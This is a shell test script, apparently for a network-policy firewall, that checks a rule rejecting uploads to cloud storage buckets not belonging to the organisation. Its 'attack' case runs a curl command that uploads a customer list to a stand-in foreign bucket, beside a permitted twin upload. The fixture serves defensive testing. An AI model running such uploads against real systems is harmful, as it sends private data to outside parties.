# SPDX-License-Identifier: Apache-2.0
# An upload to a bucket that is not ours (curl). The twin goes to ours, at the same address.
technique=T1537 what="uploads to buckets of others" rule=storage-of-others
policy() { cat <<END
weir: 1
$(zones)
sets:
  our-storage: { domains: [ours.s3.example] }
rules:
  - name: storage-of-others
    technique: [T1537]
    match: { from: inside, http.host: .s3.example }
    unless: [ { http.host: "@our-storage" } ]
    action: reject
END
}
servers() {
  cat >"$in/srv/store" <<'END'
read -r method path rest
while read -r header; do [ "$header" = "$(printf '\r')" ] && break; done
head -c 9 >>/srv/stored
printf 'HTTP/1.1 200 OK\r\nContent-Length: 0\r\nConnection: close\r\n\r\n'
sleep 0.1
END
  printf 'customers' >"$in/srv/list"
  serve world socat TCP-LISTEN:80,fork,reuseaddr EXEC:'sh /srv/store'
}
upload() {
  : >"$in/srv/stored"
  at "$1" curl -s --max-time 6 -T /srv/list -H "Host: $2" http://10.77.0.200/list || true
  grep -q customers "$in/srv/stored"
}
attack() { upload mallory stranger.s3.example; }
twin() { upload alice ours.s3.example; }
